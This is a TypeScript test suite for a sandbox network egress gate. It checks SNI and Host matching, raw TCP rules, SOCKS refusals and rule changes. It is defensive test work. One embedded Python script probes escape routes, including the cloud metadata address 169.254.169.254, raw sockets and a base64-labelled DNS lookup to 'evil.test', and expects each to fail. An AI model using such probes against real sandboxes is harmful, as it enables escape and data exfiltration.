/** What passes inside a connection: TLS for the same name, HTTP for the same host, other bytes only by a `tcp` rule; and what does not. */

import { once } from 'node:events';
import { Duplex } from 'node:stream';
import { connect as connectTls } from 'node:tls';
import { describe, expect, it } from 'vitest';
import type { Sandbox } from '../../src/sandboxes/sandbox.ts';
import { testDns } from '../support/dns-server.ts';
import { holdsLimits } from '../support/engine-under-test.ts';
import { type GateAttempt, helloServer, openFor, rawServer, tryAll } from '../support/gate-box.ts';
import { commandExists, requirement } from '../support/requires.ts';
import { openSandboxes, runInSandbox, startInSandbox, type TestSandboxes } from '../support/sandboxes.ts';
import { dockerAlone, onGvisor, when } from '../support/selection.ts';

const tunnels = ['connect', 'socks', 'transparent'] as const;
const here = ['127.0.0.1'];
/** Fatal, unrecognized_name. */
const alert = '15030300020270';

/** What a real client says first. */
async function helloFor(servername: string | undefined): Promise<Buffer> {
  const wire = new Duplex({
    read() {},
    write(chunk: Buffer, _encoding, done) {
      this.emit('said', chunk);
      done();
    },
  });
  const said = once(wire, 'said');
  const client = connectTls({ socket: wire, ...(servername === undefined ? {} : { servername }) });
  client.on('error', () => {});
  const [bytes] = (await said) as [Buffer];
  client.destroy();
  return bytes;
}

/** The same message in two records. */
function inTwoRecords(hello: Buffer): Buffer {
  const body = hello.subarray(5);
  const record = (part: Buffer): Buffer =>
    Buffer.concat([Buffer.from([22, 3, 1, part.length >> 8, part.length & 255]), part]);
  return Buffer.concat([record(body.subarray(0, 40)), record(body.subarray(40))]);
}

async function boxFor(
  port: number,
  rules: readonly string[],
  more: { readonly runtime?: string } = {},
): Promise<{ readonly box: Sandbox; readonly all: TestSandboxes; readonly asked: readonly string[] }> {
  const dns = await testDns({ 'good.test': here, 'other.test': here });
  const all = await openSandboxes({ dnsServers: [dns.server] });
  const allow = [...rules, ...(openFor(port) ?? [])];
  return { box: await all.make({ spec: { egress: { allow }, ...more } }), all, asked: dns.asked };
}

describe('[R6] TLS at the gate', () => {
  it('passes when it names the host of the connection, and never under another name or none', async () => {
    const { port, seen } = await rawServer();
    const { box } = await boxFor(port, [`good.test:${port}`, `other.test:${port}`]);
    const good = await helloFor('good.test');
    const other = await helloFor('other.test');
    const unnamed = await helloFor(undefined);
    const split = [good.subarray(0, 3), good.subarray(3, 70), good.subarray(70)];
    const hex = (...parts: readonly Buffer[]): readonly string[] => parts.map((part) => part.toString('hex'));
    const cases: readonly (readonly [readonly string[], string])[] = [
      [hex(good), 'got reached'],
      [hex(...split), 'got reached'],
      [hex(inTwoRecords(good)), 'got reached'],
      [hex(other), `got ${alert}`],
      [hex(inTwoRecords(other)), `got ${alert}`],
      [hex(unnamed), `got ${alert}`],
    ];
    const attempts: GateAttempt[] = tunnels.flatMap((via) =>
      cases.map(([send]) => ({ via, host: 'good.test', port, send })),
    );
    const results = await tryAll(box, attempts);
    expect(results.map(({ what }) => what)).toEqual(tunnels.flatMap(() => cases.map(([, what]) => what)));
    expect(seen.join('')).not.toContain(Buffer.from('other.test').toString('hex'));
    expect(seen.join('')).toContain(Buffer.from('good.test').toString('hex'));
    const codes = box.net().denied.map(({ code }) => code);
    expect(codes).toEqual(['sni_missing']);
  });

  it('where a rule goes by requests is not let through unseen', async () => {
    const { port, seen } = await rawServer();
    const dns = await testDns({ 'good.test': here });
    const { make } = await openSandboxes({ dnsServers: [dns.server] });
    const limited = { host: 'good.test', ports: [port], methods: ['GET'] };
    const box = await make({ spec: { egress: { allow: [limited, ...(openFor(port) ?? [])] } } });
    const send = [(await helloFor('good.test')).toString('hex')];
    const [result] = await tryAll(box, [{ via: 'connect', host: 'good.test', port, send }]);
    expect(result?.what).not.toBe('got reached');
    expect(seen).toEqual([]);
  });
});

describe('[R6] HTTP inside a connection', () => {
  it('must be for the host of the connection', async () => {
    const { port, seen } = await helloServer();
    const { box } = await boxFor(port, [`good.test:${port}`, `other.test:${port}`]);
    const results = await tryAll(
      box,
      tunnels.flatMap((via) => [
        { via, host: 'good.test', port },
        { via, host: 'good.test', port, inner: `other.test:${port}` },
      ]),
    );
    expect(results.map(({ what }) => what)).toEqual(
      tunnels.flatMap(() => ['reached', 'denied host_mismatch']),
    );
    expect(seen.every((line) => line.includes('good.test'))).toBe(true);
  });
});

describe('[R6] other bytes', () => {
  it('pass where a rule says tcp, also when the server speaks first, and nowhere else', async () => {
    const { port, seen } = await rawServer('220 hello\r\n');
    const other = await rawServer();
    const { box } = await boxFor(port, [
      `good.test:${port}/tcp`,
      `other.test:${other.port}`,
      `127.0.0.1:${other.port}`,
    ]);
    const results = await tryAll(
      box,
      tunnels.flatMap((via) => [
        { via, host: 'good.test', port, silent: true },
        { via, host: 'other.test', port: other.port, send: [Buffer.from('\x00raw').toString('hex')] },
      ]),
    );
    expect(results.map(({ what }) => what)).toEqual(tunnels.flatMap(() => ['got 220 hello\r ', 'closed']));
    expect(seen).toHaveLength(tunnels.length);
    expect(other.seen).toEqual([]);
    const [denied] = box.net().denied;
    expect(denied).toMatchObject({
      code: 'tcp_not_allowed',
      advice: `sally net allow ${box.name} other.test:${other.port}/tcp`,
    });
    const [bind, udp] = await tryAll(box, [
      { via: 'socks', host: 'good.test', port, command: 2 },
      { via: 'socks', host: 'good.test', port, command: 3 },
    ]);
    expect([bind?.what, udp?.what]).toEqual(['denied socks 7', 'denied socks 7']);
  });

  it('without the gate there is no way: no route, no resolver, no raw socket, and no waiting', async () => {
    const { port } = await helloServer();
    const { box, asked } = await boxFor(port, [`good.test:${port}`]);
    const script = `
import socket, time
# The quickest of five is how long it takes; the others tell what else the machine does.
def tried(what, act):
    found = set()
    seconds = []
    for _ in range(5):
        began = time.monotonic()
        try:
            act()
            found.add('passed')
        except OSError as error:
            found.add(str(error.errno))
        seconds.append(time.monotonic() - began)
    print(what, *found, 'at once' if 'passed' not in found and min(seconds) < 0.05 else 'late')
def tcp(address, port):
    sock = socket.socket(socket.AF_INET6 if ':' in address else socket.AF_INET)
    sock.settimeout(5)
    sock.connect((address, port))
def udp(address, port):
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', (address, port))
for address, port in [('8.8.8.8', 53), ('1.1.1.1', 853), ('1.1.1.1', 443), ('169.254.169.254', 80), ('172.17.0.1', 80)]:
    tried('tcp %s %d' % (address, port), lambda: tcp(address, port))
tried('tcp6', lambda: tcp('2606:4700:4700::1111', 443))
for address, port in [('8.8.8.8', 53), ('224.0.0.251', 5353), ('1.1.1.1', 443)]:
    tried('udp %s %d' % (address, port), lambda: udp(address, port))
tried('icmp', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1))
tried('packet', lambda: socket.socket(17, socket.SOCK_RAW, 0))
tried('name', lambda: socket.getaddrinfo('c2VjcmV0.evil.test', 443))
tcp(socket.getaddrinfo('good.test', None)[0][4][0], ${port})
print('control passed')
`;
    const { stdout, stderr } = await runInSandbox(box, ['python3', '-c', script]);
    expect(stderr.data).toBe('');
    const lines = stdout.data.trim().split('\n');
    expect(lines.pop()).toBe('control passed');
    expect(lines).toHaveLength(12);
    for (const line of lines) expect(line).toMatch(/ at once$/);
    expect(asked.filter((name) => name.includes('evil'))).toEqual([]);
  });
});

describe('[R6] rules that change', () => {
  it('hold at once, also for a connection that is open, and as long as the sandbox exists', async () => {
    const { port } = await rawServer('220 hello\r\n');
    const { box, all } = await boxFor(port, [`good.test:${port}/tcp`]);
    const script = `
import socket
sock = socket.create_connection(('good.test', ${port}))
print(sock.recv(100).decode().strip(), flush=True)
try:
    print('end' if sock.recv(100) == b'' else 'more')
except ConnectionResetError:
    print('end')
`;
    const exec = await startInSandbox(box, ['python3', '-c', script], { background: true });
    const said = (await exec.log()).read({ follow: true })[Symbol.asyncIterator]();
    expect(text(await said.next())).toBe('220 hello\n');
    await box.changeNet({ allow: [], deny: ['good.test'] });
    await exec.ended;
    expect(text(await said.next())).toBe('end\n');
    const denied: GateAttempt = { via: 'socks', host: 'good.test', port, silent: true };
    expect((await tryAll(box, [denied]))[0]?.what).toBe('denied socks 2');
    const name = box.name;
    await all.abandon();
    const later = await openSandboxes({ stateDir: all.stateDir, dnsServers: ['127.0.0.1:1'] });
    const again = later.sandboxes.get(name);
    expect(again.net()).toMatchObject({ deny: ['good.test'] });
    expect((await tryAll(again as Sandbox, [denied]))[0]?.what).toBe('denied socks 2');
  });

  it('are refused as a whole when one of them is wrong', async () => {
    const { port } = await helloServer();
    const { box, all } = await boxFor(port, [`good.test:${port}`]);
    for (const rule of ['*', '*.com', '*.co.uk', 'https://x.com/', 'x.com:99999']) {
      expect(() => box.changeNet({ allow: ['fine.test', rule], deny: [] })).toThrow(/is|has|would/);
      await expect(all.make({ spec: { egress: { allow: [rule] } } })).rejects.toMatchObject({
        code: 'egress_rule_invalid',
      });
    }
    expect(box.net().allow).not.toContain('fine.test');
    const strict = all.make({ spec: { profile: 'strict', egress: { allow: ['x.com'] } } });
    await expect(strict).rejects.toMatchObject({
      code: holdsLimits ? 'refused_by_policy' : 'engine_unsupported',
    });
    const closed = await all.make();
    expect(() => closed.net()).toThrow(/without egress/);
  });
});

describe('[R6] a name that a program holds', () => {
  it('leads to the same host after the daemon was replaced, and never to another', async () => {
    const { port, seen } = await helloServer();
    const dns = await testDns({ 'good.test': here, 'other.test': here });
    const allow = openFor(port, 'good.test', 'other.test') ?? [];
    const first = await openSandboxes({ dnsServers: [dns.server] });
    const box = await first.make({ spec: { name: 'kept-names', egress: { allow } } });
    const look = ['python3', '-c', "import socket; print(socket.getaddrinfo('good.test', None)[0][4][0])"];
    const address = (await runInSandbox(box, look)).stdout.data.trim();
    expect(address).toMatch(/^127\.66\./);
    await first.abandon();
    const second = await openSandboxes({ stateDir: first.stateDir, dnsServers: [dns.server] });
    const again = second.sandboxes.get('kept-names');
    const script = `
import socket
print(socket.getaddrinfo('other.test', None)[0][4][0])
sock = socket.create_connection(('${address}', ${port}))
sock.sendall(b'GET / HTTP/1.1\\r\\nHost: good.test:${port}\\r\\nConnection: close\\r\\n\\r\\n')
print(b'hello from the test' in sock.makefile('rb').read())
print(socket.getaddrinfo('good.test', None)[0][4][0])
`;
    const { stdout } = await runInSandbox(again as Sandbox, ['python3', '-c', script]);
    const [other, reached, same] = stdout.data.trim().split('\n');
    expect({ reached, same }).toEqual({ reached: 'True', same: address });
    expect(other).not.toBe(address);
    expect(seen).toEqual([`GET good.test:${port}/`]);
  });
});

when(dockerAlone, onGvisor, requirement('gVisor (runsc)', commandExists('runsc'))).describe(
  '[R11] the gate on gVisor',
  () => {
    it('has the same entrances', async () => {
      const { port } = await helloServer();
      const { box } = await boxFor(port, [`good.test:${port}`], { runtime: 'runsc' });
      const ways = ['http', 'connect', 'socks', 'transparent'] as const;
      const results = await tryAll(
        box,
        ways.flatMap((via) => [
          { via, host: 'good.test', port },
          { via, host: 'evil.test', port },
        ]),
      );
      expect(results.map(({ what }) => what)).toEqual([
        'reached',
        'denied not_allowed',
        'reached',
        'denied not_allowed',
        'reached',
        'denied socks 2',
        'reached',
        'no address',
      ]);
    });
  },
);

const text = (next: IteratorResult<unknown>): string => {
  const piece = next.value as { data?: Buffer } | undefined;
  return piece?.data?.toString() ?? '';
};
